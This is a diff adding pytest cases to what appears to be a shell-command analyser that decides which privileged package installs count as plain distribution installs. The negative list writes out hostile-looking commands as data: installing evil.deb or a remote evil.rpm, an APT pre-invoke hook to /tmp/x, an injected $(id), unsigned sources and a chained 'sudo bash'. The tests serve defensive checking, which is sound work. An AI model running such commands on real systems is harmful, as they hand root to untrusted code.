@@ -64,3 +64,47 @@ def test_a_clean_of_a_directory_pattern_or_unknown_name_still_loses_work(
 def test_a_clean_through_a_link_to_a_directory_is_a_tree(proj: Path, tests_dir: Path) -> None:
     (proj / "fixtures").symlink_to(tests_dir)
     assert [e["what"] for e in _deletes("git clean -fd -- fixtures", proj) if "what" in e] == ["untracked-trees"]
+
+
+def _installs(command: str, proj: Path) -> list[str]:
+    shell, found = analyse_shell(command, home=HOME, base_dir=str(proj), project_dir=str(proj))
+    assert shell["parse_error"] is False, shell["error"]
+    return [str(e.get("installs", "")) for e in found if e["op"] == "privilege"]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "sudo apt-get install -y gcc tclsh make",
+        "sudo apt-get update",
+        "sudo DEBIAN_FRONTEND=noninteractive apt-get -y install tzdata",
+        "sudo apt install --no-install-recommends -y python3-venv libpq-dev=15.6-0+deb12u1 gcc:amd64",
+        "sudo -n dnf install -y gcc make",
+    ],
+)
+def test_the_distributions_packages_installed_with_sudo_are_marked(command: str, proj: Path) -> None:
+    """package_installs.json: named packages from the configured sources, options that only answer prompts."""
+    assert set(_installs(command, proj)) == {"packages"}
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "sudo apt-get install ./evil.deb",  # a package file
+        "sudo apt-get install evil.deb",
+        "sudo dnf install -y https://x.example/evil.rpm",  # a URL
+        "sudo apt-get install -o APT::Update::Pre-Invoke::=/tmp/x gcc",  # a configuration option
+        "sudo apt-get -c /tmp/apt.conf install gcc",
+        "sudo apt-get install --allow-unauthenticated gcc",  # an unsigned source
+        "sudo APT_CONFIG=/tmp/apt.conf apt-get install gcc",  # an environment the manager reads
+        "sudo DEBIAN_FRONTEND='$(id)' apt-get install gcc",
+        "sudo -E apt-get install gcc",  # the caller's environment kept
+        "sudo -u builder apt-get install gcc",
+        "sudo apt-get remove gcc",  # not an install
+        "sudo apt-get install gcc && sudo bash",
+        "sudo pip install requests",  # not the distribution's packages
+        "apt-get install gcc",  # no privilege to mark
+    ],
+)
+def test_anything_else_run_with_privileges_is_not_marked(command: str, proj: Path) -> None:
+    assert "packages" not in _installs(command, proj)[-1:]
